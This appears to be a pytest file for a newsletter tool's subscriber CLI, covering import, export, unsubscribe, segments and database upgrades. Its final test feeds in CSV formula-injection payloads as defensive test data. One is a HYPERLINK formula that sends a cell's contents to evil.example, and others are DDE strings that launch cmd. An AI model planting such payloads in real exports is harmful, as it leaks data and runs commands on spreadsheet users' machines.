"""The audience commands as an operator runs them."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

from tests.conftest import REPO, SAMPLE_DATE


def test_import_prints_rejections_by_line_and_a_summary(cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    path = tmp_path / "list.csv"
    path.write_text(
        "email,interests\nok@example.org,energy\nbroken@,\nok@EXAMPLE.org,\nx@example.org,Atlantis\n"
    )
    result = cli("subscribers", "import", str(path), "--list", "weekly")
    assert result.code == 0, result.stderr
    rejected = [line for line in result.stderr.splitlines() if line.startswith("rejected: ")]
    assert [r.split(":")[2] for r in rejected] == ["3", "4", "5"]
    assert (
        "4 rows: 1 added, 0 updated, 0 unchanged, 0 kept" in result.stdout
        and "3 rejected" in result.stdout
    )


def test_dry_run_says_so_and_changes_nothing(cli) -> None:  # type: ignore[no-untyped-def]
    result = cli(
        "subscribers",
        "import",
        str(REPO / "subscribers/weekly.csv"),
        "--list",
        "weekly",
        "--dry-run",
    )
    assert result.code == 0 and result.stdout.startswith(
        "dry run, nothing changed: 20 rows: 20 added"
    )
    assert "weekly" not in cli("lists").stdout


def test_add_refuses_a_name_with_a_control_character(cli) -> None:  # type: ignore[no-untyped-def]
    result = cli("subscribers", "add", "vt@example.org", "--list", "weekly", "--name", "A\x0bB")
    assert result.code != 0
    assert "the name contains a control character (U+000B)" in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1


def test_add_show_list_unsubscribe_and_export(cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    assert (
        cli(
            "subscribers",
            "add",
            "Ana@Example.org",
            "--list",
            "weekly",
            "--name",
            "Ana",
            "--interest",
            "kazakhstan",
            "--interest",
            "energy",
        ).code
        == 0
    )
    shown = json.loads(cli("subscribers", "show", "ana@example.org", "--json").stdout)
    assert shown["interests"] == ["Kazakhstan", "energy"] and shown["lists"] == ["weekly"]
    listed = cli("subscribers", "list", "--list", "weekly", "--interest", "energy")
    assert listed.stdout.startswith("Ana@example.org\tactive\tKazakhstan,energy\tAna")
    assert (
        cli("subscribers", "unsubscribe", "ana@example.org").stdout.strip()
        == "Ana@example.org is unsubscribed"
    )
    again = cli("subscribers", "add", "ana@example.org", "--list", "weekly")
    assert again.code == 1 and again.stderr.startswith("error: Ana@example.org is unsubscribed")
    out = tmp_path / "weekly.csv"
    assert cli("subscribers", "export", "--list", "weekly", "-o", str(out)).code == 0
    assert out.read_text().splitlines()[1] == "Ana@example.org,Ana,Kazakhstan;energy,unsubscribed"


def test_unknown_subscriber_and_list_are_one_line_errors(cli) -> None:  # type: ignore[no-untyped-def]
    shown = cli("subscribers", "show", "nobody@example.org")
    assert shown.code == 1 and shown.stderr == "error: no subscriber 'nobody@example.org'\n"
    listed = cli("subscribers", "list", "--list", "nope")
    assert listed.code == 1 and "no list named 'nope'" in listed.stderr


def test_lists_and_segments_for_the_sample(cli) -> None:  # type: ignore[no-untyped-def]
    assert (
        cli("subscribers", "import", str(REPO / "subscribers/weekly.csv"), "--list", "weekly").code
        == 0
    )
    lists = json.loads(cli("lists", "--json").stdout)
    assert lists["weekly"]["active"] == 18 and lists["weekly"]["unsubscribed"] == 1
    assert cli("build", "--date", SAMPLE_DATE).code == 0
    segments = cli("segments", SAMPLE_DATE, "--list", "weekly", "--json")
    data = json.loads(segments.stdout)
    assert sum(v["subscribers"] for v in data["variants"]) == 17 and data["skipped"] == 1
    full = [v for v in data["variants"] if v["full_edition"]]
    assert full and full[0]["articles"] == 21
    assert all(v["html_bytes"] < 102 * 1024 for v in data["variants"])


def test_segments_of_an_unbuilt_issue_says_how_to_build_it(cli) -> None:  # type: ignore[no-untyped-def]
    result = cli("segments", "2031-01-01", "--list", "weekly")
    assert result.code == 1 and "newsletter build --date 2031-01-01" in result.stderr


def test_bad_database_url_is_a_config_error(cli) -> None:  # type: ignore[no-untyped-def]
    result = cli("lists", env={"NEWSLETTER_DATABASE__URL": "mysql://x"})
    assert result.code == 2 and "'database.url'" in result.stderr


def test_db_upgrade_and_status(cli) -> None:  # type: ignore[no-untyped-def]
    first = cli("db", "upgrade")
    assert first.code == 0 and "upgraded" in first.stdout and "from empty" in first.stdout
    assert "is up to date" in cli("db", "upgrade").stdout
    assert "(up to date)" in cli("db", "status").stdout


def test_export_cells_cannot_start_a_formula_and_read_back_the_same(
    cli, tmp_path: Path, workspace: Path
) -> None:  # type: ignore[no-untyped-def]
    hostile = {
        '=HYPERLINK("http://evil.example/?x="&A2,"Click")': "formula@example.org",
        "+1+cmd|' /C calc'!A0": "plus@example.org",
        "-2+3": "minus@example.org",
        "@SUM(1+1)*cmd|' /C calc'!A0": "at@example.org",
    }
    source = tmp_path / "hostile.csv"
    with source.open("w", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["email", "name", "note"])
        for name, email in hostile.items():
            writer.writerow([email, name, "=1+1"])
        writer.writerow(["-dash@example.org", "Plain", ""])
    assert cli("subscribers", "import", str(source), "--list", "weekly").code == 0
    out = tmp_path / "export.csv"
    assert cli("subscribers", "export", "--list", "weekly", "-o", str(out)).code == 0
    rows = list(csv.reader(io.StringIO(out.read_text(), newline="")))
    exported = {row[0]: row for row in rows[1:]}
    for name, email in hostile.items():
        row = exported[email]
        assert row[1] == "'" + name  # shown as text by a spreadsheet
        assert row[rows[0].index("note")] == "'=1+1"
    assert "'-dash@example.org" in exported
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row
    # Read back into a fresh database: the same names, no apostrophes.
    fresh = workspace / "fresh.db"
    env = {"NEWSLETTER_DATABASE__URL": f"sqlite:///{fresh}"}
    assert cli("subscribers", "import", str(out), "--list", "weekly", env=env).code == 0
    again = tmp_path / "again.csv"
    assert cli("subscribers", "export", "--list", "weekly", "-o", str(again), env=env).code == 0
    assert again.read_text() == out.read_text()
    shown = json.loads(cli("subscribers", "show", "formula@example.org", "--json", env=env).stdout)
    assert shown["name"] == next(iter(hostile))
